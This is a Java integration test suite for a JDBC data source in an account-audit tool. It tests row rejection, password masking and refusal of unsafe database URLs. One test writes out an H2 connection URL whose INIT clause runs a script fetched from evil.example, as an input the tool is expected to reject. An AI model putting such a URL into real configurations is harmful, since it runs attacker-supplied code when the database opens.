package dev.healthaudit.command;

import java.io.IOException;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.healthaudit.report.CsvReports;
import dev.healthaudit.sandbox.AccountKey;
import dev.healthaudit.sandbox.SandboxAccount;
import dev.healthaudit.sandbox.SandboxFleet;
import dev.healthaudit.sandbox.SandboxSettings;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A policy whose source is a SQL query: every row is audited or rejected exactly once, by
 * row number; columns named like report columns are not carried; a database that cannot
 * be reached fails the run (exit 1) without showing its password; a URL that would run
 * code is refused (exit 2) naming the file, line and key.
 */
class JdbcSourceIntegrationTests {

	private static final int ACCOUNTS = 60;

	@TempDir
	Path work;

	@Test
	void auditsEveryRowOfTheQueryOnceAndRejectsTheBadOnesByRowNumber() throws Exception {
		SandboxFleet fleet = SandboxFleet.of(SandboxSettings.defaults().withAccounts(ACCOUNTS));
		String url = "jdbc:h2:mem:crm-" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1";
		try (Connection database = DriverManager.getConnection(url, "sa", "")) {
			List<String> expected = fill(database, fleet);
			Path policy = policy(
					"{ type: jdbc, url: \"" + url + "\", username: sa, query: \"select ident as identifier, "
							+ "conn as connection_name, 'ca_ignored' as account_id, link as authorization_link, email "
							+ "from crm_accounts order by id\" }");

			AuditApp.Result result = AuditApp.run("--sandbox", "--policy=" + policy,
					"--reports-dir=" + this.work.resolve("reports"), "--audit.data-dir=" + this.work.resolve("data"),
					"--audit.sandbox.accounts=" + ACCOUNTS, "--audit.sandbox.slow-probe-delay=10ms");

			assertThat(result.exitCode()).as(result.output()).isZero();
			Path latest = this.work.resolve("reports/latest");
			ReportChecks.assertAccountsExactly(latest, expected);
			ReportChecks.assertHeadersUnique(latest);
			List<String> header = new ArrayList<>(CsvReports.ACCOUNT_COLUMNS);
			header.add("email");
			assertThat(ReportChecks.header(latest.resolve("accounts.csv"))).containsExactlyElementsOf(header);
			int firstBad = expected.size() + 1;
			assertThat(ReportChecks.rows(latest.resolve("rejects.csv")))
				.extracting((row) -> row.get("line") + " " + row.get("reason"))
				.containsExactly(firstBad + " empty_identifier", (firstBad + 1) + " unknown_connection: notion",
						(firstBad + 2) + " duplicate of line 1");
			assertThat(ReportChecks.occurrences(result.output(), "are not carried through")).isEqualTo(1);
			assertThat(result.output())
				.contains("input columns 'account_id', 'authorization_link' of jdbc:h2:mem:crm-");
			try (var files = Files.list(latest)) {
				for (Path file : files.toList()) {
					assertThat(Files.readString(file)).as(file.toString()).doesNotContain("https://old.example/link");
				}
			}
			for (CSVRecord row : ReportChecks.rows(latest.resolve("accounts.csv"))) {
				assertThat(row.get("account_id")).isNotEqualTo("ca_ignored");
			}
		}
	}

	@Test
	void unreachableDatabaseFailsTheRunWithExitOneWithoutShowingItsPassword() throws Exception {
		int closedPort;
		try (ServerSocket socket = new ServerSocket(0)) {
			closedPort = socket.getLocalPort();
		}
		Path policy = policy("{ type: jdbc, url: \"jdbc:postgresql://127.0.0.1:" + closedPort
				+ "/crm?password=hunter22\", username: auditor, password: hunter22, "
				+ "query: \"select identifier, connection_name from accounts order by id\" }");

		AuditApp.Result result = AuditApp.run("--sandbox", "--policy=" + policy,
				"--reports-dir=" + this.work.resolve("reports"), "--audit.data-dir=" + this.work.resolve("data"));

		assertThat(result.exitCode()).as(result.output()).isEqualTo(1);
		assertThat(result.output())
			.contains("cannot reach the source database: source.query on jdbc:postgresql://127.0.0.1:" + closedPort
					+ "/crm?password=****: ")
			.doesNotContain("hunter22")
			.doesNotContain("\tat ");
		assertThat(this.work.resolve("reports")).doesNotExist();
	}

	@Test
	void urlThatWouldRunCodeInTheJobIsRefusedWithExitTwoNamingFileLineAndKey() throws Exception {
		Path policy = policy("{ type: jdbc, url: \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'\", "
				+ "query: \"select 1 as identifier, 2 as connection_name\" }");

		AuditApp.Result result = AuditApp.run("--sandbox", "--policy=" + policy,
				"--reports-dir=" + this.work.resolve("reports"), "--audit.data-dir=" + this.work.resolve("data"));

		assertThat(result.exitCode()).as(result.output()).isEqualTo(2);
		assertThat(result.output())
			.contains(policy + " line 6: 'source.url' sets H2's INIT, which runs SQL when the " + "database opens")
			.doesNotContain("\tat ")
			.doesNotContain("starting run");
	}

	/**
	 * The fleet, its unknown pairs and three bad rows, in that order; returns the keys
	 * that must be audited.
	 */
	private static List<String> fill(Connection database, SandboxFleet fleet) throws SQLException {
		try (Statement statement = database.createStatement()) {
			statement.execute("create table crm_accounts (id int primary key, ident varchar, conn varchar, "
					+ "email varchar, link varchar)");
		}
		List<String> expected = new ArrayList<>();
		List<String[]> rows = new ArrayList<>();
		for (SandboxAccount account : fleet.accounts()) {
			rows.add(new String[] { account.identifier(), account.connector(), account.email() });
			expected.add(ReportChecks.key(account.connector(), account.identifier()));
		}
		for (AccountKey unknown : fleet.unknownAccounts()) {
			rows.add(new String[] { unknown.identifier(), unknown.connector(), "ghost@example.com" });
			expected.add(ReportChecks.key(unknown.connector(), unknown.identifier()));
		}
		rows.add(new String[] { "", "gmail", "nobody@example.com" });
		rows.add(new String[] { "user-notion@example.com", "notion", "user-notion@example.com" });
		SandboxAccount first = fleet.accounts().get(0);
		rows.add(new String[] { first.identifier(), first.connector(), first.email() });
		try (PreparedStatement insert = database
			.prepareStatement("insert into crm_accounts values (?, ?, ?, ?, 'https://old.example/link')")) {
			for (int i = 0; i < rows.size(); i++) {
				insert.setInt(1, i + 1);
				insert.setString(2, rows.get(i)[0]);
				insert.setString(3, rows.get(i)[1]);
				insert.setString(4, rows.get(i)[2]);
				insert.addBatch();
			}
			insert.executeBatch();
		}
		return expected;
	}

	private Path policy(String source) throws IOException {
		String policy = Files.readString(Path.of("jobs", "sandbox.yml"))
			.replace("source: { type: csv, path: jobs/sandbox-accounts.csv }", "source: " + source);
		assertThat(policy).contains("source: " + source);
		return Files.writeString(this.work.resolve("crm.yml"), policy);
	}

}
